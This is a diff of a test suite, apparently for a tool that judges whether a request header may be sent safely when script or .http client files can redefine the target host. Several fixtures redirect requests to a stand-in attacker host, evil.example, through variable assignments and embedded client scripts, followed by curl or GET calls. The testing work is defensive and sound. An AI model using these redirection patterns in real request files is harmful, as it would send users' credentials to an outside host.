@@ -307,7 +307,7 @@ describe('who may get the header', () => {
         'a variable that a script may set to something else',
         posixFormat,
         scriptWith(script),
-        /^unknown \d+: its script may send it to https:\/\/evil\.example$/,
+        /^unknown \d+: its file may send it to https:\/\/evil\.example$/,
         /^unknown \d+: only the shell knows \$BASE$/,
       ]),
       ...[
@@ -318,7 +318,7 @@ describe('who may get the header', () => {
         'a variable that another script may set to something else',
         posixFormat,
         scriptWith(script),
-        /^unknown \d+: its script may send it to https:\/\/evil\.example$/,
+        /^unknown \d+: its file may send it to https:\/\/evil\.example$/,
         /^unknown \d+: its script includes another one$/,
       ]),
       ...(
@@ -1549,9 +1549,36 @@ describe('who may get the header', () => {
         'another host that the script may set',
         posixFormat,
         `${script}curl "$BASE/$CUSTOMER_ID/config/clients"\n`,
-        /^unknown \d: its script may send it to (?:https:\/\/)?(?:api\.)?(?:evil|other)\.example(?::8080)?$/,
+        /^unknown \d: its file may send it to (?:https:\/\/)?(?:api\.)?(?:evil|other)\.example(?::8080)?$/,
         /^unknown/,
       ]),
+      ...(['restClient', 'httpYac', 'jetBrains', 'kulala'] as const).flatMap(client =>
+        [
+          `@base = https://evil.example\n\n###\nGET https://x.example\n\n###\n@base = https://b.example\nGET https://x.example\n\n###\n`,
+          `@host = evil.example\nGET https://x.example\n\n###\n@host = b.example\n@base = https://{{host}}\n`,
+          `{{\nexports.base = 'https://evil.example';\n}}\n###\n`,
+          `GET https://x.example\n> {%\nclient.global.set("base", "https://evil.example");\n%}\n\n###\n`,
+          '@base = {{"https://evil.example"}}\n\n###\n',
+        ].map((file): Row => [
+          'another host that the file may set',
+          httpFormat(client),
+          `${file}GET {{ base }}/${acme.customerId}/config/clients\n`,
+          /unknown \d+: (?:its file may send it to https:\/\/\w+\.example|it has an? (?:script|expression).*|.*scripts?.*)$|stray/,
+          /unknown|stray/,
+        ]),
+      ),
+      ...(['jetBrains', 'kulala'] as const).flatMap(client =>
+        [
+          `GET {{base}}/${acme.customerId}/config/clients\n`,
+          `GET /${acme.customerId}/config/clients\nHost: {{h}}\n`,
+        ].map((request): Row => [
+          'a variable of the file, which the environment of the client may set',
+          httpFormat(client),
+          `@base = ${acme.origin}\n@h = ${new URL(acme.origin).host}:443\n\n${request}`,
+          /^changed 1$/,
+          /^unknown 3: (?:its environment may set \{\{base\}\} to another value|clients read its URL differently)$/,
+        ]),
+      ),
       ...[
         '$BASE = "https://evil.example"',
         "[string]$base='https://evil.example'",
@@ -1562,7 +1589,7 @@ describe('who may get the header', () => {
         'another host that the script may set',
         powershellFormat,
         `${script}\nirm "$BASE/$CUSTOMER_ID/config/clients"\n`,
-        /^unknown \d: its script may send it to https:\/\/\w+\.example$/,
+        /^unknown \d: its file may send it to https:\/\/\w+\.example$/,
         /^unknown/,
       ]),
       ...[
@@ -1574,7 +1601,7 @@ describe('who may get the header', () => {
         'another host that the script may set',
         cmdFormat,
         `${script}\ncurl "%BASE%/%CUSTOMER_ID%/config/clients"\n`,
-        /^unknown \d: its script may send it to https:\/\/\w+\.example$/,
+        /^unknown \d: its file may send it to https:\/\/\w+\.example$/,
         /^unknown/,
       ]),
       ...[
